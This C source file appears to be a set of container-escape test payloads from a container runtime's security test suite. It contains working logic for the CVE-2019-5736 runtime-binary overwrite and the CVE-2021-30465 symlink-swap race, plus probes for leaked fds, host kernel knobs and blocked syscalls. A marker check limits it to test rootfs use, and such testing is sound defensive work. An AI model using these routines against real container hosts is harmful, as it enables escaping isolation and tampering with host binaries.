/* hostile — escape-attempt payloads for tests/security, linked statically so they run in a
 * busybox rootfs.
 *
 *   hostile MARKER exe-grab SECONDS [--kill]
 *       CVE-2019-5736: watch /proc for processes whose exe is the runtime ("codemode" in the
 *       link), try to open that exe for writing directly, and grab it with O_PATH to reopen it
 *       for writing through /proc/self/fd/N once the runtime stopped executing it. --kill
 *       SIGKILLs a grabbed process (so nothing executes the binary any more). Prints one line
 *       per step; "WROTE" when the overwrite worked (the test then fails).
 *       Environment: HOSTILE_UNTIL_RESOLVED=1 stops once every grabbed exe was tried and given up
 *       on; HOSTILE_START_AFTER=FILE waits for FILE before looking.
 *   hostile MARKER swap DIR NAME TARGET SECONDS
 *       CVE-2021-30465: in DIR, exchange NAME (a directory) and a symlink to TARGET in a tight
 *       loop with renameat2(RENAME_EXCHANGE), for SECONDS.
 *   hostile MARKER fds
 *       CVE-2024-21626: list this process's open fds (other than the listing's own) with their
 *       targets, and the cwd.
 *   hostile MARKER ids          print the real/effective/saved uid (setuid + no_new_privs test)
 *   hostile MARKER mkdir PATH   mkdir(2) and print the errno (seccomp tests)
 *   hostile MARKER open-write PATH
 *       Open PATH for writing (no O_TRUNC, no O_CREAT) and close it at once, writing nothing:
 *       "OPENED-FOR-WRITE" when that worked (a host kernel knob such as core_pattern reached),
 *       else "refused: <errno>". Nothing changes either way.
 *   hostile MARKER read PATH    print "READ: <first line>" or "refused: <errno>"
 *   hostile MARKER connect PATH connect(2) to a unix socket: "CONNECTED" or "refused: <errno>"
 *   hostile MARKER tiocsetd     TIOCSETD on fd 0 with the line discipline it already has (so it
 *                               changes nothing even when allowed): "TIOCSETD-ALLOWED" or
 *                               "refused: <errno>"
 *   hostile MARKER loginuid UID write UID to /proc/self/loginuid: "LOGINUID-SET" or
 *                               "refused: <errno>", then "loginuid <value>"
 *   hostile MARKER syscall NR…  each raw syscall NR with zero arguments (1000: none yet; 435
 *                               clone3 with a NULL, zero-sized argument: EINVAL when let through;
 *                               439 faccessat2 of "/"); prints "syscall NR: ok|errno N"
 *
 * Every mode first checks that /MARKER exists and that MARKER looks like a test marker
 * (".codemode-hostile-test-*"): only a test bundle's rootfs has it, so if a runtime bug ran this
 * on the host, it refuses to do anything. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void guard(const char *marker) {
  char path[PATH_MAX];
  struct stat st;
  if (strncmp(marker, ".codemode-hostile-test-", 23) != 0 || strchr(marker, '/')) {
    fprintf(stderr, "hostile: refusing: '%s' is not a test marker name\n", marker);
    exit(100);
  }
  snprintf(path, sizeof(path), "/%s", marker);
  if (lstat(path, &st) < 0 || !S_ISREG(st.st_mode)) {
    fprintf(stderr, "hostile: refusing: %s not found, this is not a test rootfs\n", path);
    exit(100);
  }
}

#define MAX_GRABS 64

static int exe_grab(double seconds, int kill_grabbed) {
  int grabbed_fd[MAX_GRABS];
  pid_t grabbed_pid[MAX_GRABS];
  int n_grabbed = 0, found = 0;
  pid_t self = getpid();
  double end = now() + seconds;
  /* HOSTILE_START_AFTER=FILE: look only once FILE exists (the test creates it when the process
   * to attack is about to exist). */
  const char *start_after = getenv("HOSTILE_START_AFTER");
  while (start_after && access(start_after, F_OK) < 0 && now() < end)
    usleep(10000);
  while (now() < end) {
    DIR *proc = opendir("/proc");
    struct dirent *de;
    while (proc && (de = readdir(proc)) != NULL) {
      char *e;
      long pid = strtol(de->d_name, &e, 10);
      if (*e || pid <= 0 || pid == self)
        continue;
      int seen = 0;
      for (int i = 0; i < n_grabbed; i++)
        seen |= grabbed_pid[i] == pid;
      if (seen || n_grabbed == MAX_GRABS)
        continue;
      char link[64], target[PATH_MAX];
      snprintf(link, sizeof(link), "/proc/%ld/exe", pid);
      ssize_t len = readlink(link, target, sizeof(target) - 1);
      if (len < 0) {
        if (errno == EACCES || errno == EPERM) {
          /* Possibly a runtime process we may not look at: note it once per pid. */
          static long denied_last;
          if (denied_last != pid)
            printf("readlink-denied %ld: %s\n", pid, strerror(errno));
          denied_last = pid;
        }
        continue;
      }
      target[len] = '\0';
      if (!strstr(target, "codemode"))
        continue;
      found++;
      printf("found %ld exe=%s\n", pid, target);
      int w = open(link, O_WRONLY);
      printf("direct-open-write %ld: %s\n", pid, w >= 0 ? "OPENED" : strerror(errno));
      if (w >= 0 && write(w, "", 0) == 0)
        close(w);
      int p = open(link, O_PATH);
      printf("opath %ld: %s\n", pid, p >= 0 ? "ok" : strerror(errno));
      grabbed_pid[n_grabbed] = (pid_t)pid;
      grabbed_fd[n_grabbed++] = p;
      if (p >= 0 && kill_grabbed)
        kill((pid_t)pid, SIGKILL);
    }
    if (proc)
      closedir(proc);
    /* The overwrite: works once nothing executes the file any more (else ETXTBSY). */
    for (int i = 0; i < n_grabbed; i++) {
      if (grabbed_fd[i] < 0)
        continue;
      char reopen[64];
      snprintf(reopen, sizeof(reopen), "/proc/self/fd/%d", grabbed_fd[i]);
      int w = open(reopen, O_WRONLY | O_APPEND);
      if (w >= 0) {
        static const char evil[] = "\nCVE-2019-5736: overwritten by tests/security payload\n";
        ssize_t n = write(w, evil, sizeof(evil) - 1);
        printf("reopen-write %d: %s\n", grabbed_pid[i], n > 0 ? "WROTE" : strerror(errno));
        close(w);
        if (n > 0) {
          fflush(stdout);
          return 0;
        }
        close(grabbed_fd[i]);
        grabbed_fd[i] = -1;
      } else if (errno != ETXTBSY) {
        printf("reopen-write %d: %s\n", grabbed_pid[i], strerror(errno));
        close(grabbed_fd[i]);
        grabbed_fd[i] = -1;
      }
    }
    fflush(stdout);
    /* Everything seen was tried and given up on (not merely busy): nothing more to learn. */
    int pending = 0;
    for (int i = 0; i < n_grabbed; i++)
      pending += grabbed_fd[i] >= 0;
    if (found > 0 && pending == 0 && getenv("HOSTILE_UNTIL_RESOLVED"))
      break;
    usleep(200);
  }
  printf("done: %d runtime processes seen, no overwrite\n", found);
  return 1;
}

static int swap(const char *dir, const char *name, const char *target, double seconds) {
  int dfd = open(dir, O_RDONLY | O_DIRECTORY);
  if (dfd < 0) {
    perror(dir);
    return 1;
  }
  char other[NAME_MAX + 1];
  snprintf(other, sizeof(other), "%s.swap", name);
  unlinkat(dfd, other, 0);
  unlinkat(dfd, name, AT_REMOVEDIR);
  if (mkdirat(dfd, name, 0755) < 0 || symlinkat(target, dfd, other) < 0) {
    perror("prepare swap");
    return 1;
  }
  printf("swapping %s/%s <-> symlink to %s\n", dir, name, target);
  fflush(stdout);
  long swaps = 0;
  double end = now() + seconds;
  while (now() < end) {
    for (int i = 0; i < 1000; i++) {
      if (syscall(SYS_renameat2, dfd, name, dfd, other, RENAME_EXCHANGE) < 0) {
        perror("renameat2");
        return 1;
      }
      swaps++;
    }
  }
  printf("swaps: %ld\n", swaps);
  return 0;
}

static int list_fds(void) {
  DIR *d = opendir("/proc/self/fd");
  if (d == NULL) {
    perror("/proc/self/fd");
    return 1;
  }
  struct dirent *de;
  while ((de = readdir(d)) != NULL) {
    if (de->d_name[0] == '.' || atoi(de->d_name) == dirfd(d))
      continue;
    char link[300], target[PATH_MAX];
    snprintf(link, sizeof(link), "/proc/self/fd/%s", de->d_name);
    ssize_t n = readlink(link, target, sizeof(target) - 1);
    target[n < 0 ? 0 : n] = '\0';
    printf("fd %s -> %s\n", de->d_name, target);
  }
  closedir(d);
  char cwd[PATH_MAX];
  printf("cwd %s\n", getcwd(cwd, sizeof(cwd)) ? cwd : strerror(errno));
  return 0;
}

int main(int argc, char **argv) {
  if (argc < 3) {
    fprintf(stderr, "usage: hostile MARKER exe-grab|swap|fds ...\n");
    return 2;
  }
  guard(argv[1]);
  setvbuf(stdout, NULL, _IOLBF, 0);
  const char *mode = argv[2];
  if (strcmp(mode, "exe-grab") == 0 && argc >= 4)
    return exe_grab(atof(argv[3]), argc > 4 && strcmp(argv[4], "--kill") == 0);
  if (strcmp(mode, "swap") == 0 && argc == 7)
    return swap(argv[3], argv[4], argv[5], atof(argv[6]));
  if (strcmp(mode, "fds") == 0)
    return list_fds();
  if (strcmp(mode, "ids") == 0) {
    uid_t r, e, saved;
    getresuid(&r, &e, &saved);
    printf("ruid=%u euid=%u suid=%u\n", r, e, saved);
    return 0;
  }
  if (strcmp(mode, "mkdir") == 0 && argc == 4) {
    if (mkdir(argv[3], 0755) < 0) {
      printf("mkdir: errno %d (%s)\n", errno, strerror(errno));
      return 1;
    }
    printf("mkdir: ok\n");
    return 0;
  }
  if (strcmp(mode, "open-write") == 0 && argc == 4) {
    int fd = open(argv[3], O_WRONLY | O_NOCTTY | O_CLOEXEC);
    if (fd < 0) {
      printf("refused: %s\n", strerror(errno));
      return 0;
    }
    close(fd);
    printf("OPENED-FOR-WRITE %s\n", argv[3]);
    return 0;
  }
  if (strcmp(mode, "read") == 0 && argc == 4) {
    char buf[128] = "";
    int fd = open(argv[3], O_RDONLY | O_NOCTTY | O_CLOEXEC);
    ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof(buf) - 1);
    if (n < 0) {
      printf("refused: %s\n", strerror(errno));
      return 0;
    }
    buf[n] = '\0';
    buf[strcspn(buf, "\n")] = '\0';
    printf("READ: %s\n", buf);
    return 0;
  }
  if (strcmp(mode, "connect") == 0 && argc == 4) {
    struct sockaddr_un sa = {.sun_family = AF_UNIX};
    snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", argv[3]);
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
      printf("refused: %s\n", strerror(errno));
      return 0;
    }
    printf("CONNECTED %s\n", argv[3]);
    return 0;
  }
  if (strcmp(mode, "tiocsetd") == 0) {
    int ldisc = 0;
    if (ioctl(0, TIOCGETD, &ldisc) < 0) {
      printf("no terminal on fd 0: %s\n", strerror(errno));
      return 1;
    }
    if (ioctl(0, TIOCSETD, &ldisc) < 0) {
      printf("refused: %s\n", strerror(errno));
      return 0;
    }
    printf("TIOCSETD-ALLOWED (ldisc %d kept)\n", ldisc);
    return 0;
  }
  if (strcmp(mode, "loginuid") == 0 && argc == 4) {
    int fd = open("/proc/self/loginuid", O_WRONLY | O_CLOEXEC);
    if (fd < 0 || write(fd, argv[3], strlen(argv[3])) < 0)
      printf("refused: %s\n", strerror(errno));
    else
      printf("LOGINUID-SET\n");
    if (fd >= 0)
      close(fd);
    char buf[32] = "";
    fd = open("/proc/self/loginuid", O_RDONLY | O_CLOEXEC);
    ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof(buf) - 1);
    printf("loginuid %s\n", n > 0 ? buf : "?");
    return 0;
  }
  if (strcmp(mode, "syscall") == 0) {
    for (int i = 3; i < argc; i++) {
      long nr = strtol(argv[i], NULL, 10), r;
      errno = 0;
      if (nr == 435)
        r = syscall(nr, NULL, 0);
      else if (nr == 439)
        r = syscall(nr, AT_FDCWD, "/", F_OK, 0);
      else
        r = syscall(nr, 0, 0, 0, 0, 0, 0);
      if (r < 0)
        printf("syscall %ld: errno %d\n", nr, errno);
      else
        printf("syscall %ld: ok\n", nr);
    }
    return 0;
  }
  fprintf(stderr, "hostile: bad mode or arguments\n");
  return 2;
}
